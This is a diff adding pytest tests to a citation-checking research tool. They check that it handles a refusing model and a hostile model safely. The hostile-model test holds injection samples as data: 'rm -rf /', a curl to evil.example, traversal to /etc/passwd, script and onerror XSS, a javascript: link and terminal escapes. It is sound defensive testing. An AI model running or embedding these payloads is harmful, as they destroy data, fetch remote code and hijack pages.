@@ -297,6 +297,44 @@ def test_a_model_that_cites_what_is_not_there_or_fails_on_a_source_leaves_the_qu
     assert "thrown away, because a quotation does not hold: 1." in report
 
 
+@pytest.mark.parametrize("said", [reply("I would rather talk about the weather."), reply("", stop="refusal")])
+def test_a_model_that_never_answers_as_it_was_asked_leaves_search_and_quotations(tmp_path: Path, said: Item) -> None:
+    """The question itself is searched for then; nothing of what the model said is in the report, and the user is told."""
+    write(tmp_path, {"docs/tea.md": LOCAL})
+    every: dict[str, Answer] = dict.fromkeys(("prepare", "note", "answer"), lambda body: said)
+    with world() as (_, web), thinking(**every) as (_, env):
+        done = fdc("research", QUESTION, "--docs", "docs", cwd=tmp_path, env={**web, **env})
+    assert 0 == done.returncode and "seventy degrees" in done.stdout, done.stderr
+    assert done.stderr.startswith("the model did not answer, so there are quotations only: ") and 1 == done.stderr.count("\n")
+    report = (tmp_path / NAME).read_text()
+    assert f"Searched the web for `{QUESTION}`" in report and "The model wrote no answer" in report and "weather." not in report
+
+
+def test_a_hostile_model_adds_no_query_beyond_a_few_and_no_claim_that_does_not_hold(tmp_path: Path) -> None:
+    """Its words are data: bounded, quoted, checked; no tag, heading or link of it takes effect in the report."""
+    write(tmp_path, {"docs/tea.md": LOCAL})
+    holds = {"path": "docs/tea.md", "line": 3, "quote": "Green tea wants water of eighty degrees."}
+    outside = {"path": "../../etc/passwd", "line": 1, "quote": "root"}
+    answers: dict[str, Any] = {
+        "prepare": {"queries": ["x; rm -rf /", "$(curl http://evil.example)", "q3", "q4"], "terms": ["`id`", "../../etc/passwd"]},
+        "note": {"claims": [{"claim": "noted", "citations": [holds]}, {"claim": "untrue", "citations": [outside]}]},
+        "answer": {
+            "claims": [
+                {"claim": "\\<script>alert(1)</script> [c](javascript:x)\n# heading \x1b[31m", "citations": [holds]},
+                {"claim": "untrue", "citations": [outside]},
+            ],
+            "open_questions": ["<img src=x onerror=y>", "\n# heading"],
+        },
+    }
+    every: dict[str, Answer] = {name: (lambda body, said=said: said) for name, said in answers.items()}  # type: ignore[misc]
+    with world() as (tea, web), thinking(**every) as (_, env):
+        done = fdc("research", QUESTION, "--docs", "docs", cwd=tmp_path, env={**web, **env})
+        assert {"/robots.txt", "/white"} == set(tea.paths())
+    report = (tmp_path / NAME).read_text()
+    assert 0 == done.returncode and "untrue" not in report + done.stdout and "\x1b" not in report + done.stdout, done.stderr
+    assert "\n# heading" not in report and "](javascript" not in report and not re.search(r"(?<!\\)(\\\\)*<(script|img)", report)
+
+
 def test_a_model_that_does_not_answer_leaves_the_quotations_and_the_report_says_so(tmp_path: Path) -> None:
     write(tmp_path, {"docs/tea.md": LOCAL})
     with thinking(answer=lambda body: reply("no JSON")) as (_, env):
